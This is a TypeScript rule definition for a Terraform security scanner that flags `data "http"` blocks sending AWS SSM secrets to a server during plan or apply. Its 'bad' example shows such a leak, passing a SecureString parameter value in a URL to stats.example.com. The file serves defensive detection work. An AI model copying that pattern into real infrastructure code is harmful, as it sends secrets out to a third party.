import { defineCheck, hcl } from '../../kit/index.ts';
import { secretIn } from './secret-reference.ts';

/** Arguments whose content reaches the server. Headers are left out: a token in `Authorization` is what it is for. */
const SENT: readonly string[] = ['url', 'request_body'];

export default defineCheck({
  id: 'aws-ssm-avoid-leaks-via-http',
  since: '1.0.0',
  severity: 'CRITICAL',
  resource: 'data.http',

  title: 'Secrets should not leave through an HTTP data source',
  why: 'A `data "http"` block sends its request whenever somebody plans or applies. A secret in its address or body goes to whoever runs the server, and into the logs on the way. A module from elsewhere can hide such a request.',
  harm: 'Secrets leave the organisation during `terraform plan`.',
  remedy: 'Remove the request, or the secret from it, and replace a secret that may have been sent.',
  links: [
    'https://registry.terraform.io/providers/hashicorp/http/latest/docs/data-sources/http',
    'https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/ssm_parameter',
    'https://developer.hashicorp.com/terraform/language/manage-sensitive-data',
  ],
  alsoKnownAs: {
    trivy: ['AVD-AWS-0134', 'AWS-0134'],
    checkov: ['CKV2_AWS_36'],
  },

  messages: {
    leak: '`{address}` sends `{secret}` to a server in its `{path}`',
    sensitive: '`{address}` sends a sensitive value to a server in its `{path}`',
  },

  examples: () => [
    {
      bad: hcl`
        resource "aws_ssm_parameter" "password" {
          name  = "/orders/password"
          type  = "SecureString"
          value = "correct horse"
        }

        data "http" "telemetry" {
          url = "https://stats.example.com/?p=\${aws_ssm_parameter.password.value}"
        }
      `,
      expect: 'leak',
    },
  ],
  good: () => [
    hcl`
      resource "aws_ssm_parameter" "password" {
        name  = "/orders/password"
        type  = "SecureString"
        value = "correct horse"
      }

      data "http" "addresses" {
        url = "https://ip-ranges.amazonaws.com/ip-ranges.json"
      }
    `,
  ],

  evaluate(request, report) {
    for (const name of SENT) {
      const argument = request.attribute(name);
      const secret = secretIn(argument);
      if (secret?.isCertain === true) report.fail({ message: 'leak', at: argument, values: { secret: secret.name } });
      else if (argument.isSensitive) report.fail({ message: 'sensitive', at: argument });
      else if (secret !== undefined)
        report.undetermined({ message: 'leak', at: argument, values: { secret: secret.name } });
    }
  },
});
